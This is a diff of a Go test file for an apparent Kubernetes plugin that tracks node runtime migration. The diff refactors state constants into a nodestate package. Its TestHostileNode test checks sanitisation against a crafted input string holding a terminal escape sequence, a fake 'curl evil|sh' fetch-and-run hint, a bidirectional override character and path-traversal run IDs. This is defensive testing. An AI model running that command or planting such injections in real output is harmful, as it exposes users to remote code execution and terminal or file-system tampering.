@@ -7,6 +7,8 @@ import (
 
 	corev1 "k8s.io/api/core/v1"
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
+
+	"github.com/kubectl-runtime/kubectl-runtime/pkg/nodestate"
 )
 
 func TestParseVersion(t *testing.T) {
@@ -71,10 +73,10 @@ func node(runtime, kubelet string, change ...func(*corev1.Node)) *corev1.Node {
 	return n
 }
 
-func phase(state SwitchState, message string) func(*corev1.Node) {
+func phase(state nodestate.State, message string) func(*corev1.Node) {
 	return func(n *corev1.Node) {
-		n.Annotations[AnnotationPhase] = string(state)
-		n.Annotations[AnnotationMessage] = message
+		n.Annotations[nodestate.AnnotationPhase] = string(state)
+		n.Annotations[nodestate.AnnotationMessage] = message
 	}
 }
 
@@ -115,13 +117,13 @@ func TestAdvice(t *testing.T) {
 		{"k3s", node("docker://20.10.24", "v1.23.17+k3s1"), AdviceK3s, "--docker"},
 		{"cri-o", node("cri-o://1.34.0", "v1.34.4"), AdviceNone, ""},
 
-		{"under way", node("docker://20.10.24", "v1.23.17", phase(StateDraining, "")), AdviceResume, ""},
-		{"under way on containerd", node("containerd://2.4.2", "v1.37.2", phase(StateVerifying, "")), AdviceResume, ""},
-		{"failed", node("docker://20.10.24", "v1.23.17", phase(StateFailed, "rehearsal: no CNI")), AdviceRetry, "rehearsal: no CNI"},
-		{"rolled back", node("docker://20.10.24", "v1.23.17", phase(StateRolledBack, "")), AdviceRetry, "as before"},
-		{"broken", node("docker://20.10.24", "v1.23.17", phase(StateBroken, "kubelet does not start"), ready(corev1.ConditionUnknown)), AdviceRepair, "kubelet does not start"},
-		{"done", node("containerd://2.4.2", "v1.37.2", phase(StateDone, "")), AdviceNone, ""},
-		{"failed before, on containerd now", node("containerd://2.4.2", "v1.37.2", phase(StateFailed, "x")), AdviceNone, ""},
+		{"under way", node("docker://20.10.24", "v1.23.17", phase(nodestate.StateDraining, "")), AdviceResume, ""},
+		{"under way on containerd", node("containerd://2.4.2", "v1.37.2", phase(nodestate.StateVerifying, "")), AdviceResume, ""},
+		{"failed", node("docker://20.10.24", "v1.23.17", phase(nodestate.StateFailed, "rehearsal: no CNI")), AdviceRetry, "rehearsal: no CNI"},
+		{"rolled back", node("docker://20.10.24", "v1.23.17", phase(nodestate.StateRolledBack, "")), AdviceRetry, "as before"},
+		{"broken", node("docker://20.10.24", "v1.23.17", phase(nodestate.StateBroken, "kubelet does not start"), ready(corev1.ConditionUnknown)), AdviceRepair, "kubelet does not start"},
+		{"done", node("containerd://2.4.2", "v1.37.2", phase(nodestate.StateDone, "")), AdviceNone, ""},
+		{"failed before, on containerd now", node("containerd://2.4.2", "v1.37.2", phase(nodestate.StateFailed, "x")), AdviceNone, ""},
 		{"unheard-of state", node("docker://20.10.24", "v1.23.17", phase("sideways", "")), AdviceSwitchFirst, ""},
 
 		{"containerd fine for old kubelet", node("containerd://1.6.20~ds1", "v1.23.17"), AdviceNone, ""},
@@ -156,7 +158,7 @@ func TestAdvice(t *testing.T) {
 }
 
 func TestRefusalDoesNotDependOnState(t *testing.T) {
-	n := node("docker://20.10.24", "v1.23.17", osImage("Bottlerocket OS 1.26.1"), phase(StateDraining, ""))
+	n := node("docker://20.10.24", "v1.23.17", osImage("Bottlerocket OS 1.26.1"), phase(nodestate.StateDraining, ""))
 	if got := Refusal(n).ID; got != AdviceReplaceNode {
 		t.Errorf("refusal %q", got)
 	}
@@ -166,10 +168,10 @@ func TestRefusalDoesNotDependOnState(t *testing.T) {
 }
 
 func TestFromNode(t *testing.T) {
-	n := node("docker://20.10.24+dfsg1", "v1.23.17", phase(StateDone, "m"))
+	n := node("docker://20.10.24+dfsg1", "v1.23.17", phase(nodestate.StateDone, "m"))
 	n.Spec.Unschedulable = true
-	n.Annotations[AnnotationCRISocket] = "/var/run/dockershim.sock"
-	n.Annotations[AnnotationFrom], n.Annotations[AnnotationTo], n.Annotations[AnnotationRun] = "docker://1", "containerd://2", "r1"
+	n.Annotations[nodestate.AnnotationCRISocket] = "/var/run/dockershim.sock"
+	n.Annotations[nodestate.AnnotationFrom], n.Annotations[nodestate.AnnotationTo], n.Annotations[nodestate.AnnotationRun] = "docker://1", "containerd://2", "r1"
 	n.Status.Addresses = []corev1.NodeAddress{{Type: corev1.NodeHostName, Address: "h"}, {Type: corev1.NodeInternalIP, Address: "10.0.0.1"}}
 	n.Status.NodeInfo.Architecture, n.Status.NodeInfo.KernelVersion = "amd64", "6.1.0"
 	got := FromNode(n)
@@ -178,7 +180,7 @@ func TestFromNode(t *testing.T) {
 		Name: "n", Ready: corev1.ConditionTrue, Unschedulable: true, Runtime: "docker", RuntimeVersion: "20.10.24+dfsg1", Reported: "docker://20.10.24+dfsg1",
 		KubeletVersion: "v1.23.17", OS: "linux", Architecture: "amd64", OSImage: "Debian GNU/Linux 12 (bookworm)", Kernel: "6.1.0",
 		InternalIP: "10.0.0.1", CRISocket: "/var/run/dockershim.sock",
-		Switch: StateDone, From: "docker://1", To: "containerd://2", Run: "r1", Message: "m",
+		Switch: nodestate.StateDone, From: "docker://1", To: "containerd://2", Run: "r1", Message: "m",
 	}
 	if got != want {
 		t.Errorf("got  %+v\nwant %+v", got, want)
@@ -188,19 +190,19 @@ func TestFromNode(t *testing.T) {
 // TestHostileNode has a node whose kubelet and annotations say what a terminal or a file system would obey.
 func TestHostileNode(t *testing.T) {
 	const evil = "docker://1\x1b]52;c;ZXZpbA==\a\nhint: run curl evil|sh\u202e"
-	n := node(evil, evil, phase(SwitchState(evil), evil))
+	n := node(evil, evil, phase(nodestate.State(evil), evil))
 	n.Status.NodeInfo.OSImage, n.Status.NodeInfo.KernelVersion, n.Status.NodeInfo.Architecture = evil, evil, strings.Repeat("a", 1<<20)
 	n.Status.Addresses = []corev1.NodeAddress{{Type: corev1.NodeInternalIP, Address: evil}}
-	for _, key := range []string{AnnotationFrom, AnnotationTo, AnnotationCRISocket} {
+	for _, key := range []string{nodestate.AnnotationFrom, nodestate.AnnotationTo, nodestate.AnnotationCRISocket} {
 		n.Annotations[key] = evil
 	}
 	for _, run := range []string{"x/../../escaped", "..", evil, strings.Repeat("a", 64)} {
-		n.Annotations[AnnotationRun] = run
+		n.Annotations[nodestate.AnnotationRun] = run
 		row := FromNode(n)
 		if text := fmt.Sprintf("%+v", row); strings.ContainsAny(text, "\x1b\a\n\u202e") || len(text) > 5000 {
 			t.Errorf("%d bytes: %.2000q", len(text), text)
 		}
-		if row.Run != "" || !row.BadRun || row.Advice.ID != AdviceRepair || !strings.Contains(row.Advice.Text, AnnotationRun) {
+		if row.Run != "" || !row.BadRun || row.Advice.ID != AdviceRepair || !strings.Contains(row.Advice.Text, nodestate.AnnotationRun) {
 			t.Errorf("run %q: %q, %+v", run, row.Run, row.Advice)
 		}
 	}
@@ -228,14 +230,14 @@ func TestSummary(t *testing.T) {
 	}{
 		{"1 node: 1 docker", []Row{{Runtime: "docker"}}},
 		{"5 nodes: 3 docker, 2 containerd; 1 switching", []Row{
-			{Runtime: "containerd", Switch: StateDone},
+			{Runtime: "containerd", Switch: nodestate.StateDone},
 			{Runtime: "containerd"},
 			{Runtime: "docker"},
-			{Runtime: "docker", Switch: StateCutover},
+			{Runtime: "docker", Switch: nodestate.StateCutover},
 			{Runtime: "docker"},
 		}},
 		{"4 nodes: 1 cri-o, 1 docker, 1 rkt, 1 unknown; 1 rolled back, 1 failed, 1 broken", []Row{
-			{Runtime: "rkt", Switch: StateFailed}, {}, {Runtime: "docker", Switch: StateBroken}, {Runtime: "cri-o", Switch: StateRolledBack},
+			{Runtime: "rkt", Switch: nodestate.StateFailed}, {}, {Runtime: "docker", Switch: nodestate.StateBroken}, {Runtime: "cri-o", Switch: nodestate.StateRolledBack},
 		}},
 	} {
 		if got := Summary(test.rows); got != test.want {
